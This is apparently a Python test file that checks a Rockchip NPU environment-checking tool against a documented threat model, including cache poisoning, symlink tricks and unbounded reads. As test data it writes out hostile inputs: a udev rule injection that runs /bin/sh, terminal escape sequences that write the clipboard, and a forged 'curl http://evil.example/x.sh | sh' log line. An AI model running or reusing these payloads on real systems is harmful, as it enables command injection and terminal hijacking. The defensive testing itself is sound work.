"""The threat model of docs/security.md, one test per attack: each reproduces what an attacker
controls (a facts file, a board, a log, a model, a --matrix directory, a cache in a HOME they
own, a path they planted, the environment) and asserts the safe result.

Elsewhere, by design: fix-command quoting (tests/test_shellcmd.py and the fix planner's tests),
facts-file validation and limits (the facts model's tests), emulator isolation (the emulator's
tests). docs/security.md lists them all.
"""
from __future__ import annotations

import json
import os
import pty
import re
import shutil
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from rknn_envcheck import matrix as matrix_module
from rknn_envcheck import safeio
from rknn_envcheck.errors import UsageError

REPO = Path(__file__).resolve().parent.parent
EXAMPLE_FACTS = REPO / "examples" / "facts-rk3588-mismatch.json"
SHIPPED_MATRIX = REPO / "matrices"
# What a hostile string carries: OSC 52 (write the clipboard), clear screen, full reset, a CSI
# introduced by the C1 byte, a BiDi override, a bare CR rewinding the line, a zero-width space.
HOSTILE = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x1bc\x9b31m\u202egnp.exe\rFAKE\u200b"
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]")
OUR_COLOURS = re.compile(r"\x1b\[(?:32|33|31;1|36|2|35;1|0)m")
as_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root (chown, mknod)")


def run(*argv, env=None, input=None, timeout=120, cwd=None):
    full_env = dict(os.environ)
    full_env.update(env or {})
    return subprocess.run([sys.executable, "-m", "rknn_envcheck", *argv], capture_output=True, text=True, env=full_env,
                          input=input, timeout=timeout, cwd=cwd)


def run_in_pty(*argv, env=None, timeout=120) -> tuple[int, str]:
    """Run with stdout on a terminal (so the text renderer colours), return (code, output)."""
    main, child = pty.openpty()
    full_env = dict(os.environ, TERM="xterm")
    full_env.update(env or {})
    proc = subprocess.Popen([sys.executable, "-m", "rknn_envcheck", *argv], stdout=child, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL, env=full_env)
    os.close(child)
    chunks = []
    while True:
        try:
            data = os.read(main, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(main)
    code = proc.wait(timeout=timeout)
    return code, b"".join(chunks).decode("utf-8", "replace")


EMULATED_BOARD = ("device", "--emulate", "rk3588-2.3.2")  # a command that gathers facts, quickly


def _release(fifo: Path) -> None:
    """Unblock a reader still waiting on `fifo` (when the command under test never opened it)."""
    try:
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        pass


def hostile_facts(tmp_path: Path) -> Path:
    facts = json.loads(EXAMPLE_FACTS.read_text())
    board = facts["devices"][0]
    board["serial"] = "SER" + HOSTILE
    board["chip"] = "RK3588" + HOSTILE
    board["rknn_server"] = "1.5.2" + HOSTILE
    facts["host"]["python"]["executable"] = "/venv/bin/python" + HOSTILE + "[click](http://evil.example) | `x`<b>"
    path = tmp_path / "hostile-facts.json"
    path.write_text(json.dumps(facts))
    return path


# --- item 2: a cache another user could write is never loaded; --matrix text never reaches udev rules


def _copy_matrix(tmp_path: Path) -> Path:
    target = tmp_path / "matrix"
    shutil.copytree(SHIPPED_MATRIX, target)
    return target


def _poisoned_cache(matrix_dir: Path, cache_dir: Path, version: str) -> Path:
    """A well-formed cache entry for matrix_dir, as an attacker would write it: the real tables
    with the matrix version replaced and a udev payload in a usb_id row."""
    files = sorted(matrix_dir.glob("*.toml"))
    digest = matrix_module._content_digest(matrix_dir.resolve(), matrix_module._read_files(files))
    real = matrix_module.load_matrix(SHIPPED_MATRIX)  # the copy holds the same tables; parsed once per session
    tables = json.loads(json.dumps({k: v for k, v in real.tables.items()}))
    tables["usb_id"][0]["meaning"] = 'x\nRUN+="/bin/sh -c touch /tmp/pwned"'
    meta = dict(real.meta, version=version)
    cache_dir.mkdir(parents=True, exist_ok=True, mode=0o700)
    path = cache_dir / f"matrix-{digest}.marshal"
    import marshal

    blobs = {name: marshal.dumps(rows) for name, rows in tables.items()}  # cache format 4: one blob per table
    path.write_bytes(marshal.dumps((digest, (blobs, meta, real.sources, real.extras))))
    path.chmod(0o600)
    return path


def _loaded_version(matrix_dir: Path, cache_dir: Path, extra_env=None) -> str:
    code = "from rknn_envcheck.matrix import load_matrix; import sys; print(load_matrix(sys.argv[1]).version)"
    env = dict(os.environ, RKNN_ENVCHECK_CACHE=str(cache_dir), **(extra_env or {}))
    proc = subprocess.run([sys.executable, "-c", code, str(matrix_dir)], capture_output=True, text=True, env=env, timeout=60)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.strip()


def test_cache_written_by_this_user_is_used(tmp_path):
    """The positive control: a cache that passes every check is what gets loaded."""
    matrix_dir = _copy_matrix(tmp_path)
    _poisoned_cache(matrix_dir, tmp_path / "cache", "FROM-CACHE")
    assert _loaded_version(matrix_dir, tmp_path / "cache") == "FROM-CACHE"


@as_root
def test_cache_owned_by_another_user_is_ignored(tmp_path):
    matrix_dir = _copy_matrix(tmp_path)
    cache = _poisoned_cache(matrix_dir, tmp_path / "cache", "POISONED")
    os.chown(cache, 4242, 4242)
    assert _loaded_version(matrix_dir, tmp_path / "cache") != "POISONED"


@pytest.mark.parametrize("what", ["file-group-writable", "dir-world-writable", "dir-of-another-user", "symlinked-file"])
def test_cache_others_could_write_is_ignored(tmp_path, what):
    if what == "dir-of-another-user" and os.geteuid() != 0:
        pytest.skip("needs root to chown")
    matrix_dir = _copy_matrix(tmp_path)
    cache_dir = tmp_path / "cache"
    cache = _poisoned_cache(matrix_dir, cache_dir, "POISONED")
    if what == "file-group-writable":
        cache.chmod(0o620)
    elif what == "dir-world-writable":
        cache_dir.chmod(0o777)
    elif what == "dir-of-another-user":
        os.chown(cache_dir, 4242, 4242)
    else:
        elsewhere = tmp_path / "elsewhere.marshal"
        cache.rename(elsewhere)
        cache.symlink_to(elsewhere)
    assert _loaded_version(matrix_dir, cache_dir) != "POISONED"


@as_root
def test_root_never_reads_a_cache_from_a_home_it_does_not_own(tmp_path):
    """sudo -E / su -m: HOME is the user's, so is everything under it."""
    home = tmp_path / "home" / "user"
    matrix_dir = _copy_matrix(tmp_path)
    cache_dir = home / ".cache" / "rknn-envcheck"
    _poisoned_cache(matrix_dir, cache_dir, "POISONED")
    os.chown(home, 4242, 4242)  # the cache file and its directory still belong to root
    code = "from rknn_envcheck.matrix import load_matrix; import sys; print(load_matrix(sys.argv[1]).version)"
    env = {k: v for k, v in os.environ.items() if k not in ("RKNN_ENVCHECK_CACHE", "XDG_CACHE_HOME")}
    env["HOME"] = str(home)
    proc = subprocess.run([sys.executable, "-c", code, str(matrix_dir)], capture_output=True, text=True, env=env, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() != "POISONED"


def test_cache_matches_content_not_size_and_mtime(tmp_path):
    matrix_dir = _copy_matrix(tmp_path)
    cache_dir = tmp_path / "cache"
    first = _loaded_version(matrix_dir, cache_dir)
    assert list(cache_dir.glob("matrix-*.marshal")), "the first load writes the cache"
    main = matrix_dir / "matrix.toml"
    before = main.stat()
    text = main.read_text()
    changed = first[:-1] + ("X" if first[-1] != "X" else "Y")  # same length
    main.write_text(text.replace(f'"{first}"', f'"{changed}"', 1))
    os.utime(main, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert main.stat().st_size == before.st_size and main.stat().st_mtime_ns == before.st_mtime_ns
    assert _loaded_version(matrix_dir, cache_dir) == changed


def _rules_root(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    (root / "etc" / "udev" / "rules.d").mkdir(parents=True)
    (root / "etc" / "group").write_text("plugdev:x:46:\n")
    return root


@pytest.mark.parametrize("field, value", [
    ("meaning", 'board\nRUN+="/bin/sh -c touch /tmp/pwned"'),
    ("pid", '0006\nRUN+="/bin/sh -c touch /tmp/pwned"'),
    ("mode", "adb\\"),
])
def test_matrix_dir_text_never_reaches_the_udev_rules_file(tmp_path, field, value):
    matrix_dir = _copy_matrix(tmp_path)
    usb = matrix_dir / "usb.toml"
    text = usb.read_text()
    first_row = text.index("[[usb_id]]")
    key_at = text.index(f"\n{field} = ", first_row) + 1
    line_end = text.index("\n", key_at)
    usb.write_text(text[:key_at] + f"{field} = {json.dumps(value)}" + text[line_end:])
    root = _rules_root(tmp_path)
    proc = run("udev", "--install", "--root", str(root), "--matrix", str(matrix_dir), env={"RKNN_ENVCHECK_CACHE": "off"})
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "refusing to write it into a udev rules file" in proc.stderr and f"{field} " in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1
    assert not list((root / "etc" / "udev" / "rules.d").iterdir())


@pytest.mark.parametrize("group", ["plugdev\n", 'plug"dev', "$devpath", "Plugdev", "a" * 33])
def test_group_names_are_strict(tmp_path, group):
    proc = run("udev", "--install", "--mode", "group", "--group", group, "--root", str(_rules_root(tmp_path)))
    assert proc.returncode == 2 and "is not a valid group name" in proc.stderr


# --- items 3 and 4: writing a user-named path never replaces what is not a regular file


def test_symlink_is_resolved_and_its_target_replaced_keeping_the_mode(tmp_path):
    target = tmp_path / "real.txt"
    target.write_text("old\n")
    target.chmod(0o640)
    link = tmp_path / "link.txt"
    link.symlink_to(target)
    proc = run("constraints", "--toolkit", "rknn-toolkit2==2.3.2", "--python", "3.10", "--platform", "linux_x86_64", "-o", str(link))
    assert proc.returncode == 0, proc.stderr
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert "rknn-toolkit2" in target.read_text() and stat.S_IMODE(target.stat().st_mode) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.txt", "real.txt"]  # no temp file left


def test_new_file_gets_the_umask_mode(tmp_path):
    out = tmp_path / "new.txt"
    old = os.umask(0o027)
    try:
        safeio.write_text(out, "x\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o640


def test_fifo_is_written_through_not_replaced(tmp_path):
    fifo = tmp_path / "facts.fifo"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    proc = run(*EMULATED_BOARD, "--save-facts", str(fifo))
    _release(fifo)
    reader.join(timeout=60)
    assert proc.returncode in (0, 1, 3), proc.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert json.loads(received[0])["devices"]


def test_dash_writes_standard_output(tmp_path):
    proc = run("constraints", "--toolkit", "rknn-toolkit2==2.3.2", "--python", "3.10", "--platform", "linux_x86_64", "-o", "-",
               cwd=tmp_path)
    assert proc.returncode == 0 and "rknn-toolkit2" in proc.stdout
    assert not list(tmp_path.iterdir())


@as_root
def test_character_device_stays_a_device(tmp_path):
    """/dev/null as root used to become a regular 0600 file; a node made here stands in for it."""
    node = tmp_path / "null"
    os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    try:
        os.close(os.open(node, os.O_WRONLY))
    except OSError:
        pytest.skip("this filesystem is mounted nodev")
    proc = run(*EMULATED_BOARD, "--save-facts", str(node))
    assert proc.returncode in (0, 1, 3), proc.stderr
    st = os.lstat(node)
    assert stat.S_ISCHR(st.st_mode) and st.st_rdev == os.makedev(1, 3)
    # and through a symlink, as /dev/stdout -> /proc/self/fd/1 is
    link = tmp_path / "stdout-like"
    link.symlink_to(node)
    assert run(*EMULATED_BOARD, "--save-facts", str(link)).returncode in (0, 1, 3)
    assert link.is_symlink() and stat.S_ISCHR(os.lstat(node).st_mode)


def test_directory_is_a_usage_error(tmp_path):
    proc = run(*EMULATED_BOARD, "--save-facts", str(tmp_path))
    assert proc.returncode == 2 and "is a directory" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert not list(tmp_path.iterdir())


@as_root
def test_link_planted_by_another_user_in_a_sticky_directory_is_refused(tmp_path):
    shared = tmp_path / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    planted = shared / "report.json"
    planted.symlink_to(victim)
    os.lchown(planted, 4242, 4242)
    proc = run(*EMULATED_BOARD, "--save-facts", str(planted))
    assert proc.returncode == 2 and "refusing to write through" in proc.stderr
    assert victim.read_text() == "precious\n"


def test_udev_temp_file_never_matches_the_rules_pattern(tmp_path, monkeypatch):
    from rknn_envcheck.udev.install import install

    renamed = []
    real_replace = os.replace
    monkeypatch.setattr(os, "replace", lambda src, dst: (renamed.append((Path(src).name, Path(dst).name)), real_replace(src, dst))[1])
    out = install(root=_rules_root(tmp_path), udevadm=None)
    assert out.action == "written", out.lines
    (temp, final), = renamed
    assert final.endswith(".rules") and not temp.endswith(".rules") and temp.startswith(".") and temp.endswith(".tmp")
    assert stat.S_IMODE(os.stat(Path(out.target)).st_mode) == 0o644


def test_udev_backup_does_not_follow_a_dangling_symlink(tmp_path):
    """The backup name is predictable (name.bak-DATE-TIME): a dangling link planted there must
    be skipped, not written through (it used to create a root-owned file outside rules.d)."""
    from rknn_envcheck.udev.install import install
    from rknn_envcheck.udev.render_rule import RULE_FILE_NAME

    root = _rules_root(tmp_path)
    rules_d = root / "etc" / "udev" / "rules.d"
    (rules_d / RULE_FILE_NAME).write_text("# an older version\n")
    outside = tmp_path / "outside" / "written-through"
    (tmp_path / "outside").mkdir()
    now = time.time()
    planted = []
    for second in range(0, 6):
        stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(now + second))
        link = rules_d / f"{RULE_FILE_NAME}.bak-{stamp}"
        link.symlink_to(outside)
        planted.append(link)
    out = install(root=root, udevadm=None)
    assert out.action == "written", out.lines
    assert not outside.exists()
    assert all(link.is_symlink() for link in planted)
    backup = Path(out.backup)
    assert not backup.is_symlink() and backup.read_text() == "# an older version\n"


def test_create_exclusive_retries_past_clashes(tmp_path):
    (tmp_path / "b-0").write_text("taken")
    (tmp_path / "b-1").symlink_to(tmp_path / "nowhere")
    fd, path = safeio.create_exclusive(tmp_path, lambda n: f"b-{n}")
    os.close(fd)
    assert path.name == "b-2" and not (tmp_path / "nowhere").exists()


# --- item 5: nothing from outside reaches the terminal as a control sequence


@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_escapes_in_facts_are_shown_escaped(tmp_path, fmt):
    proc = run("check", "--facts", str(hostile_facts(tmp_path)), "-v", "--format", fmt)
    assert proc.returncode in (1, 3), proc.stderr
    assert not RAW_CONTROLS.search(proc.stdout), "a raw control/BiDi character reached the output"
    assert "\\x1b]52;c;" in proc.stdout and "\\u202e" in proc.stdout  # shown, escaped, not dropped


@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_file_names_are_shown_escaped(tmp_path, fmt):
    """The report's header and notes quote paths from the command line."""
    named = tmp_path / ("facts\x1b]0;pwned\x07\u202e.json")
    shutil.copy(EXAMPLE_FACTS, named)
    proc = run("check", "--facts", str(named), "--format", fmt)
    assert proc.returncode in (1, 3), proc.stderr
    assert not RAW_CONTROLS.search(proc.stdout) and "facts\\x1b]0;pwned" in proc.stdout


def test_markdown_escapes_its_own_syntax(tmp_path):
    proc = run("check", "--facts", str(hostile_facts(tmp_path)), "-v", "--format", "markdown")
    assert "click" in proc.stdout
    # Outside code blocks and spans (where markdown shows text literally) no link, tag or stray
    # backtick remains.
    prose_lines, fence = [], None
    for line in proc.stdout.splitlines():
        opening = re.match(r"\s*(`{3,})", line)
        if fence is None and opening:
            fence = opening.group(1)
        elif fence is not None and line.strip() == fence:
            fence = None
        elif fence is None:
            prose_lines.append(line)
    prose = re.sub(r"(?<![`\\])(`+)(?!`).+?(?<!`)\1(?!`)", "CODE", "\n".join(prose_lines))
    assert not re.search(r"(?<!\\)\]\(", prose) and not re.search(r"(?<!\\)<b>", prose), prose
    assert not re.search(r"(?<![\\`])`(?!`)", prose.replace("```", "")), "a backtick from outside opened a code span"
    for line in proc.stdout.splitlines():
        if line.startswith("| ") and not line.startswith("| status"):
            assert len(re.findall(r"(?<!\\)\|", line)) == 6, line  # five cells, whatever the values hold


def test_json_keeps_the_exact_strings(tmp_path):
    proc = run("check", "--facts", str(hostile_facts(tmp_path)), "--json")
    facts = json.loads(proc.stdout)["facts"]
    assert facts["devices"][0]["serial"] == "SER" + HOSTILE and facts["devices"][0]["chip"] == "RK3588" + HOSTILE


def test_colour_codes_stay_while_content_is_escaped(tmp_path):
    code, out = run_in_pty("check", "--facts", str(hostile_facts(tmp_path)), env={"NO_COLOR": ""})
    assert code in (1, 3)
    assert OUR_COLOURS.search(out), "NO_COLOR='' must not disable colour (no-color.org)"
    assert "\x1b" not in OUR_COLOURS.sub("", out) and "\x9b" not in out


def test_no_color_with_a_value_disables_colour(tmp_path):
    code, out = run_in_pty("check", "--facts", str(EXAMPLE_FACTS), env={"NO_COLOR": "1"})
    assert code in (1, 3) and "\x1b" not in out


def test_cr_in_a_log_line_cannot_forge_a_command_line(tmp_path):
    log = tmp_path / "app.log"
    log.write_bytes(b"E RKNN: Invalid RKNN model version 6 \r             $ curl http://evil.example/x.sh | sh\n")
    for fmt in ("text", "markdown"):
        proc = run("explain", str(log), "--format", fmt)
        assert proc.returncode in (1, 3), proc.stderr
        assert "curl" in proc.stdout  # the line is reported ...
        for line in proc.stdout.splitlines():  # ... but never as a line of its own
            assert not line.lstrip().startswith("$ curl"), line
        assert "\r" not in proc.stdout


# --- item 8: bounded reads


def test_explain_on_an_endless_stream_stops_at_its_limit():
    from rknn_envcheck.commands.explain import MAX_STREAM_BYTES

    started = time.monotonic()
    proc = run("explain", "/dev/zero", timeout=120)
    assert proc.returncode in (0, 3), proc.stderr
    assert f"stopped reading after {MAX_STREAM_BYTES >> 20} MiB" in proc.stdout
    assert time.monotonic() - started < 60


def test_explain_on_a_fifo_with_an_endless_writer(tmp_path):
    fifo = tmp_path / "log.fifo"
    os.mkfifo(fifo)

    def write_forever():
        try:
            with open(fifo, "wb") as handle:
                while True:
                    handle.write(b"ordinary line of an endless log\n" * 4096)
        except (BrokenPipeError, OSError):
            pass

    writer = threading.Thread(target=write_forever, daemon=True)
    writer.start()
    proc = run("explain", str(fifo), timeout=120)
    assert proc.returncode in (0, 3), proc.stderr
    assert "stopped reading after" in proc.stdout


@pytest.mark.parametrize("kind", ["fifo", "too-big"])
def test_matrix_files_are_bounded(tmp_path, kind):
    matrix_dir = _copy_matrix(tmp_path)
    if kind == "fifo":
        os.mkfifo(matrix_dir / "zz-endless.toml")  # nobody ever writes: opening it must not block
    else:
        with open(matrix_dir / "zz-huge.toml", "wb") as handle:
            handle.truncate(64 << 20)  # sparse: costs no disk
    proc = run("check", "--facts", str(EXAMPLE_FACTS), "--matrix", str(matrix_dir), timeout=30)
    assert proc.returncode == 2 and ("is a FIFO" in proc.stderr or "the limit is" in proc.stderr), proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1


def test_profile_toml_is_bounded(tmp_path):
    fifo = tmp_path / "board.toml"
    os.mkfifo(fifo)
    proc = run("device", "--emulate", str(fifo), timeout=30)
    assert proc.returncode == 2 and "FIFO" in proc.stderr, proc.stderr


def _model_with_json(path: Path, body: bytes) -> Path:
    path.write_bytes(b"RKNN\0\0\0\0" + struct.pack("<QQ", 1, 0) + struct.pack("<Q", len(body)) + body)
    return path


# Peak memory of this process image: VmHWM (ru_maxrss would carry the forking pytest's peak over exec).
_PEAK_SCRIPT = """
import sys
from rknn_envcheck.model.header import read_model_info
try:
    read_model_info(sys.argv[1]); outcome = "parsed"
except Exception as exc:
    outcome = type(exc).__name__ + ": " + str(exc)[:300]
status = open("/proc/self/status").read()
print(int(status.split("VmHWM:")[1].split()[0]) // 1024)
print(outcome)
"""


def test_rknn_metadata_has_a_parse_budget(tmp_path):
    """15 MiB of `{}` values (5 million dicts) used to be parsed (432 MB peak; 64 MiB peaked at
    945 MB): now refused by the value budget, with memory near the file size."""
    body = b'{"a":[' + b"{}," * (5 << 20) + b"{}]}"
    model = _model_with_json(tmp_path / "hostile.rknn", body)
    proc = subprocess.run([sys.executable, "-c", _PEAK_SCRIPT, str(model)], capture_output=True, text=True, timeout=120)
    peak_mb, outcome = proc.stdout.splitlines()
    assert "parse budget" in outcome, outcome
    assert int(peak_mb) < 150, f"peak {peak_mb} MB"


def test_rknn_metadata_over_16_mib_is_refused_before_reading(tmp_path):
    model = tmp_path / "big.rknn"
    with open(model, "wb") as handle:
        handle.write(b"RKNN\0\0\0\0" + struct.pack("<QQ", 1, 0) + struct.pack("<Q", (16 << 20) + 1) + b"{")
        handle.truncate(24 + 8 + (16 << 20) + 1)
    proc = subprocess.run([sys.executable, "-c", _PEAK_SCRIPT, str(model)], capture_output=True, text=True, timeout=60)
    peak_mb, outcome = proc.stdout.splitlines()
    assert "exceeds the 16 MiB limit" in outcome and int(peak_mb) < 80


class _HostileAdb:
    """Something speaking the adb server protocol that answers a shell command without end (or
    with a packet header claiming 4 GiB): a compromised board, or a hostile server."""

    def __init__(self, v2: bool, claim: int | None = None):
        self.v2, self.claim = v2, claim
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.sent = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _request(self, conn) -> str:
        size = int(conn.recv(4, socket.MSG_WAITALL), 16)
        return conn.recv(size, socket.MSG_WAITALL).decode()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._client, args=(conn,), daemon=True).start()

    def _client(self, conn):
        try:
            request = self._request(conn)
            if request.endswith(":features"):
                features = b"shell_v2,cmd" if self.v2 else b"cmd"
                conn.sendall(b"OKAY" + b"%04x" % len(features) + features)
                return
            conn.sendall(b"OKAY")  # host:transport-id:1
            self._request(conn)  # shell,v2:... or shell:...
            conn.sendall(b"OKAY")
            if self.claim is not None:
                conn.sendall(b"\x01" + struct.pack("<I", self.claim) + b"x" * 1024)
                time.sleep(1)
                return
            block = b"y" * 65536
            packet = (b"\x01" + struct.pack("<I", len(block)) + block) if self.v2 else block
            while True:
                conn.sendall(packet)
                self.sent += len(block)
        except OSError:
            pass
        finally:
            conn.close()

    def close(self):
        self.sock.close()


@pytest.mark.parametrize("v2, claim", [(True, None), (False, None), (True, 0xFFFFFFFF)], ids=["shell-v2", "shell-v1", "v2-4GiB-header"])
def test_board_output_is_capped(v2, claim):
    import tracemalloc

    from rknn_envcheck.boards.adb import MAX_BOARD_OUTPUT, AdbEndpoint, AdbSession
    from rknn_envcheck.boards.base import BoardError

    server = _HostileAdb(v2, claim)
    try:
        session = AdbSession(AdbEndpoint("127.0.0.1", server.port, "test"), "hostile", transport_id=1)
        tracemalloc.start()
        with pytest.raises(BoardError) as err:
            session.shell("cat /proc/version", timeout=30)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    finally:
        server.close()
    assert f"exceeded {MAX_BOARD_OUTPUT >> 20} MiB" in str(err.value)
    assert peak < 3 * MAX_BOARD_OUTPUT
    assert server.sent < 4 * MAX_BOARD_OUTPUT


# --- item 9: environment variables


@pytest.mark.parametrize("value", ["", "abc", "70000", "x" * 100_000])
@pytest.mark.parametrize("command", [["doctor"], ["device", "--all"]])
def test_bad_adb_port_variable_is_one_line_exit_2(value, command):
    proc = run(*command, env={"ANDROID_ADB_SERVER_PORT": value}, timeout=60)
    assert proc.returncode == 2, proc.stderr[-500:]
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "ANDROID_ADB_SERVER_PORT" in lines[0] and "Traceback" not in proc.stderr
    assert len(lines[0]) < 500  # a long value is cut, not echoed


@pytest.mark.parametrize("env", [{"PYTHONIOENCODING": "ascii"},
                                 {"LC_ALL": "C", "LANG": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0", "PYTHONIOENCODING": ""}],
                         ids=["ascii", "C-locale"])
def test_non_utf8_output_degrades_instead_of_crashing(tmp_path, env):
    proc = run("check", "--facts", str(hostile_facts(tmp_path)), "-v", env=env)
    assert proc.returncode in (1, 3) and "UnicodeEncodeError" not in proc.stderr, proc.stderr[-500:]
    assert "\\u2014" in proc.stdout or "\\xb7" in proc.stdout  # our own — and · came out escaped


def test_long_bad_values_are_cut_in_errors():
    proc = run("check", "--format", "y" * 100_000)
    assert proc.returncode == 2 and max(len(line) for line in proc.stderr.splitlines()) <= 2100


def test_usage_error_text_is_escaped(tmp_path):
    name = tmp_path / ("facts\x1b[2J" + "\u202e.json")
    proc = run("check", "--facts", str(name))
    assert proc.returncode == 2 and "\x1b" not in proc.stderr and "\u202e" not in proc.stderr


def test_safeio_api_errors_are_usage_errors(tmp_path):
    with pytest.raises(UsageError, match="is a directory"):
        safeio.write_text(tmp_path, "x")
    with pytest.raises(UsageError, match="does not exist"):
        safeio.write_text(tmp_path / "no" / "such" / "dir.txt", "x")


def test_cache_writes_keep_only_the_newest_files_and_touch_nothing_else(tmp_path):
    """Each matrix set writes its own cache file; a write prunes our older ones (a session of
    edits left ~300 files), never a symlink, a foreign name or another user's file."""
    from rknn_envcheck.matrix_cache import KEEP_FILES

    cache_dir = tmp_path / "cache"
    cache_dir.mkdir(mode=0o700)
    tmp_path.chmod(0o700)
    old = []
    for i in range(KEEP_FILES + 10):
        path = cache_dir / f"matrix-{i:040x}.marshal"
        path.write_bytes(b"stale")
        os.utime(path, (1_000_000 + i, 1_000_000 + i))
        old.append(path)
    (cache_dir / "notes.txt").write_text("mine")
    earlier_release = cache_dir / "matrix-21e38062-5.marshal"  # an earlier release's naming: ours too
    earlier_release.write_bytes(b"stale")
    os.utime(earlier_release, (1_000, 1_000))
    victim = tmp_path / "victim"
    victim.write_text("keep me")
    (cache_dir / f"matrix-{'f' * 40}.marshal").symlink_to(victim)
    matrix_dir = _copy_matrix(tmp_path)
    assert _loaded_version(matrix_dir, cache_dir)  # a miss: parses, writes, prunes
    names = {p.name for p in cache_dir.iterdir()}
    ours = [p for p in cache_dir.iterdir() if p.name.startswith("matrix-") and not p.is_symlink()]
    assert len(ours) == KEEP_FILES
    kept_old = {p.name for p in old if p.exists()}
    assert kept_old == {p.name for p in old[-(KEEP_FILES - 1):]}  # the newest, plus the file just written
    assert "notes.txt" in names and victim.read_text() == "keep me"
    assert not earlier_release.exists()
    assert (cache_dir / f"matrix-{'f' * 40}.marshal").is_symlink()
